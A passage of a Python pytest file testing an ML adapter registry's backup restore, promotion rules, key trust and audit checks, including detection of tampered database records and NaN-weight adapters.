        told = {"fused": 1, "trusted_keys": 1, "approvals": 1, "tokens": 0, "webhooks": 0, "adapters": 0}
        assert done.foreign == told
        for rules in ({"fidelity": "DEGRADED"}, {"signed": True}, {"approvals": 1}):
            restored.aliases.set_rules("prod", rules)
            assert not restored.aliases.promote(ADAPTER, "prod").moved, rules
        assert [line["foreign"] is not None for line in restored.adapters.show(ADAPTER)["fused"]] == [True]
        assert restored.fused.fuse(ADAPTER, KEEP).source == "computed"
        restored.trust.add_key("eve", tmp_path / "eve.pub", ["*#*"])
        restored.aliases.set_rules("prod", {"signed": True})
        assert restored.aliases.promote(ADAPTER, "prod").moved
        assert restored.upkeep.audit().ok


def test_one_s_own_backup_counts_as_it_is(saved: Path, tmp_path: Path) -> None:
    with opened(tmp_path / "restored") as restored:
        assert restored.upkeep.restore(saved, own=True).foreign == {}
        restored.aliases.set_rules("prod", {"fidelity": "DEGRADED", "signed": True, "approvals": 1})
        assert restored.aliases.promote(ADAPTER, "prod").moved
        assert restored.upkeep.audit().ok


@pytest.mark.parametrize("own", [False, True])
def test_an_adapter_of_a_backup_that_would_not_get_in_is_not_believed(
    liar: Registry, tmp_path: Path, own: bool
) -> None:
    with_weights(liar, _nan, tmp_path)
    with forging(liar) as session:
        session.execute(delete(tables.AdapterFinding))
    liar.upkeep.backup(tmp_path / "saved")
    with opened(tmp_path / "restored") as restored:
        done = restored.upkeep.restore(tmp_path / "saved", own=own)
        assert "adapter_unfit" in {problem.code for problem in restored.upkeep.audit().problems} or not own
        if not own:
            assert done.doubts
            restored.aliases.set_rules("prod", {"admission": "no_errors"})
            assert restored.aliases.promote(ADAPTER, "prod").verdict == "failed"


# One's own database, edited by somebody who has all rights to it.


OWN: dict[str, tuple[Callable[[Registry], None], str]] = {
    "content": (lambda own: _base(_set(content=NOBODY_S))(own, Path()), "content_differs"),
    "a base's facts": (lambda own: _base(_set(dtype="f64"))(own, Path()), "facts_differ"),
    "an adapter's facts": (lambda own: _adapter(_set(rank=64))(own, Path()), "facts_differ"),
    "a fused artifact's key": (lambda own: _fused(_set(key=NOBODY_S))(own, Path()), "key_differs"),
}


@pytest.mark.parametrize("case", OWN)
def test_an_audit_computes_again(case: str, liar: Registry) -> None:
    edit, code = OWN[case]
    assert liar.upkeep.audit().ok
    edit(liar)
    assert code in {problem.code for problem in liar.upkeep.audit().problems}


def test_an_audit_finds_an_adapter_that_would_not_get_in_and_a_form_that_is_not_its_own(
    liar: Registry, tmp_path: Path
) -> None:
    liar.exchange.export(ADAPTER, tmp_path / "exported", form="peft")
    with_weights(liar, _nan, tmp_path)
    codes = {problem.code for problem in liar.upkeep.audit().problems}
    assert {"adapter_unfit", "form_differs"} <= codes
